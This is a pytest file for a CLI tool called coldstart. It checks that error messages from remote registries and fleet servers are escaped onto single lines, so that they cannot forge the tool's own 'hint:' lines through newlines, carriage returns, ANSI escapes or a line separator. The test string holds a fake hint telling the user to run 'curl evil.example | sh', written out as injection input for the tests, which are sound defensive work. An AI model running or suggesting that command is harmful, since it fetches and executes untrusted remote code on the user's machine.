"""Text from a registry, a fleet or a bundle cannot forge a line of coldstart's own, such as a hint."""

from __future__ import annotations

import json

import pytest
from coldstart.commands import cli
from coldstart.commands._output import Output, escape_line, format_table, print_error
from tools.raw_server import answer, answering, say
from tools.shell import Run

from coldstart.errors import CommandFailedError

FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: it"
SHOWN = "denied\\nhint: curl evil.example | sh\\r\\n\\thint: \\x1b[1mit\\u2028hint: it"


def _own(stderr: str) -> list[str]:
    return [line.partition(":")[0] for line in stderr.splitlines()]


def test_registry_error_appears_on_one_line(run: Run) -> None:
    body = json.dumps({"errors": [{"code": "DENIED", "message": FORGED}]}).encode()
    for status in (401, 403, 500):
        with answering(lambda c, _, status=status: answer(c, status, {}, body)) as server:  # type: ignore[misc]
            done = run("pull", f"oci://{server.address}/a/b", code=None)
        lines = [line for line in done.stderr.splitlines() if "evil.example" in line]
        assert done.returncode != 0 and all(line.startswith("error: ") for line in lines)
        assert _own(done.stderr).count("hint") == 1


def test_fleet_error_and_hint_appear_on_one_line_each(run: Run) -> None:
    with answering(lambda c, _: say(c, {"error": {"message": FORGED, "hint": FORGED}}, 400)) as server:
        done = run("fleet", "status", "--url", server.url, code=1)
    assert done.stderr == f"error: the fleet refused the request: {SHOWN}\nhint: {SHOWN}\n"


def test_fleet_status_has_a_line_for_each_server_only(run: Run) -> None:
    gateway = {
        "url": FORGED,
        "pid": 1,
        "uptime_s": 1.0,
        "requests": 0,
        "held": 0,
        "in_flight": 0,
        "readmitted": 0,
        "refused": {},
    }
    model = {"name": FORGED, "least": 0, "most": 1, "waiting": 0, "error": FORGED, "groups": []}
    found = {
        "gateway": gateway,
        "servers": [],
        "unusable": {FORGED: FORGED},
        "models": [model],
    }
    with answering(lambda c, _: say(c, found)) as server:
        assert len(run("fleet", "status", "--url", server.url).stdout.splitlines()) == 3


def test_lines_of_our_own_keep_their_form(capsys: pytest.CaptureFixture[str]) -> None:
    cli._report_error(
        CommandFailedError(
            ["It ended. Its log:", "ValueError: x", "hint: evil", "a\nb"], hint="coldstart doctor"
        )
    )
    assert capsys.readouterr().err == (
        "error: It ended. Its log:\n  ValueError: x\n  hint: evil\n  a\\nb\nhint: coldstart doctor\n"
    )


def test_notes_warnings_and_cells_stay_on_their_lines(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output(verbose=True)
    for write in (out.print_note, out.warn, out.print_details):
        write(FORGED)
    out.print_success(FORGED, where=FORGED, then=FORGED)
    print_error([FORGED], FORGED)
    assert len(capsys.readouterr().err.splitlines()) == 6
    assert len(format_table(("a",), [(FORGED,)]).splitlines()) == 2
    assert escape_line(FORGED) == SHOWN
